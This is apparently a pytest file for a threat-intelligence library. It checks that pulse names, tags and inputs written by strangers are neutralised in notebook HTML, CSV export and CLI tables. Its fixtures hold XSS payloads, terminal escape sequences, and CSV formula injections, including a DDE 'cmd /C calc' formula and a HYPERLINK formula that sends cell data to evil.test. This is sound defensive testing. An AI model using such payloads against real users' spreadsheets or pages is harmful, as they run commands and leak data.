"""Strings written by strangers (pulse names, tags, inputs) are harmless in notebook HTML, CSV and the CLI.

The hostile values travel the real path: a pulse added to the OTX fake, looked up through
``correlate``, then rendered by ``_repr_html_``, ``export.to_csv`` and the CLI's table.
"""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import pytest

from tiintel import OTXClient, VirusTotalClient, correlate
from tiintel.export import to_csv
from tiintel.testing import FakeOTX, FakeVirusTotal, VirtualClock

KEY = "k3y-STRINGS-0123456789"
HOSTILE_NAME = (
    "<script>alert(1)</script><img src=x onerror=alert(2)>"
    "\x1b[2J\x1b]8;;https://evil.test/\x07click\x1b]8;;\x07\x1b[31m\u202eevil\r\n"
)
FORMULA_NAME = '=HYPERLINK("https://evil.test/?"&A1,"x")'
INPUTS = [
    "bad.example",
    "other.example",
    "=cmd|' /C calc'!A0",
    "<b>x</b>\x1b[5m",
    "@SUM(1)",
    "+1",
    "-1",
]


@pytest.fixture(scope="module")
def results() -> Any:
    otx_fake = FakeOTX()
    otx_fake.add_pulse(
        HOSTILE_NAME, ["bad.example"], tags=["<i>tag</i>", "=1+1"], adversary="\x1b[1mAPT"
    )
    otx_fake.add_pulse(FORMULA_NAME, ["other.example"])
    clock = VirtualClock()
    with (
        VirusTotalClient(KEY, transport=FakeVirusTotal(), clock=clock) as vt,
        OTXClient(KEY, transport=otx_fake, clock=clock) as otx,
    ):
        found = correlate(INPUTS, vt=vt, otx=otx, errors="collect")
    assert found[0].otx is not None and found[0].otx.pulses
    assert found[1].otx is not None and found[1].otx.pulses
    return found


def test_notebook_html_escapes_everything(results: Any) -> None:
    pages = [results._repr_html_(), *(r._repr_html_() for r in results)]
    pages += [
        p._repr_html_() for r in results if r.otx for p in r.otx.pulses if hasattr(p, "_repr_html_")
    ]
    for page in pages:
        lowered = page.lower()
        assert "<script" not in lowered and "<img" not in lowered and "<b>" not in lowered
        assert "<i>" not in lowered
        assert "javascript:" not in lowered
    assert "&lt;script&gt;" in results[0]._repr_html_()


_LEADING = ("=", "+", "-", "@", "\t", "\r", "\n")


def test_csv_cells_cannot_run_as_formulas(results: Any) -> None:
    text = to_csv(results)
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == len(INPUTS) + 1
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(_LEADING)]
    assert any(cell.startswith("'=") for cell in cells)  # neutralised, not dropped
    assert [row[0].lstrip("'") for row in rows[1:]] == INPUTS  # the data itself is kept


def _visible(text: str) -> str:
    """The table without the CLI's own colour codes: nothing of the strangers' escapes may remain."""
    return re.sub(r"\x1b\[(?:0|1|2|33|32|1;31)m", "", text)


class _TTY(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_cli_table_strips_escapes_and_controls(results: Any) -> None:
    cli = pytest.importorskip("tiintel.cli._cmd_correlate")
    from tiintel.cli._output import Style

    class Runtime:
        style = Style(_TTY(), env={})

    for fmt in ("table", "csv", "json", "jsonl"):
        out = (
            cli.render(results, fmt, Runtime()) if fmt != "table" else cli.table(results, Runtime())
        )
        visible = _visible(out)
        assert "\x1b" not in visible, fmt
        assert not [
            ch for ch in visible if (ord(ch) < 32 and ch not in "\n\r") or 0x7F <= ord(ch) < 0xA0
        ], fmt
        assert "\u202e" not in visible, fmt


def test_cli_table_without_colours_has_no_escape_at_all(results: Any) -> None:
    cli = pytest.importorskip("tiintel.cli._cmd_correlate")
    from tiintel.cli._output import Style

    class Runtime:
        style = Style(io.StringIO(), env={})

    assert "\x1b" not in cli.table(results, Runtime())


def test_cli_render_table_cleans_a_hostile_pulse_name() -> None:
    output = pytest.importorskip("tiintel.cli._output")
    text = output.render_table(
        ["name", "tags"], [[HOSTILE_NAME, FORMULA_NAME]], style=output.Style(_TTY(), env={})
    )
    visible = _visible(text)
    assert "\x1b" not in visible and "\u202e" not in visible and "\x07" not in visible
    assert "<script>alert(1)</script>" in visible  # plain text on a terminal: shown, not run
    assert visible.count("\n") == 2  # the CR LF inside the name did not add a row
